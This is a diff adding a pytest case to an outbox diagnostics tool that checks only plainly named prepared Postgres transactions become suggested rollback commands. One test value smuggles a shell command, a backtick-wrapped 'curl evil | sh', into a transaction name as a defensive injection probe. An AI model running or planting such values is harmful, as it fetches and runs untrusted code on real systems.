@@ -4,6 +4,7 @@ import os
 import shlex
 from contextlib import ExitStack, closing
 from functools import partial
+from uuid import uuid4
 
 import psycopg
 import pytest
@@ -13,6 +14,8 @@ from outbox_core.config import HarvestConfig
 from outbox_core.doctor import examination, postgres
 from outbox_core.doctor.findings import CommandLine, Verdict
 from outbox_core.doctor.kafka import KafkaChecks
+from outbox_core.doctor.session import DatabaseSession
+from outbox_core.doctor.writers import read_writers
 from outbox_core.schema import (
     STORAGE_PARAMETERS,
     TableName,
@@ -347,3 +350,21 @@ def test_transactions_longer_than_brokers_allow(kafka_bootstrap, topic_name):
         (found,) = ask(timeout_ms=900_001)
     assert found.verdict is Verdict.PROBLEM
     assert "900,001 ms, but for 900,000 ms at most" in found.detail
+
+
+@pytest.mark.usefixtures("connection")
+def test_prepared_transactions_with_names_to_copy(database):
+    """Only a plain name becomes a command: whoever may write to the outbox has chosen it."""
+    plain, odd = f"nightly {uuid4()}", f"nightly`curl evil | sh\n`{uuid4()}"
+    for gid in (plain, odd):
+        with psycopg.connect(database) as writer:
+            writer.execute("INSERT INTO outbox (kafka_topic) VALUES ('t')")
+            writer.execute(psycopg.sql.SQL("PREPARE TRANSACTION {}").format(gid))
+    try:
+        with closing(DatabaseSession(database, "outbox", application_name="test")) as session:
+            remedies = {writer.remedy for writer in read_writers(session).writers}
+        assert remedies == {f"ROLLBACK PREPARED '{plain}'", "SELECT gid, owner, prepared FROM pg_prepared_xacts"}
+    finally:
+        with psycopg.connect(database, autocommit=True) as connection:
+            for gid in (plain, odd):
+                connection.execute(psycopg.sql.SQL("ROLLBACK PREPARED {}").format(gid))
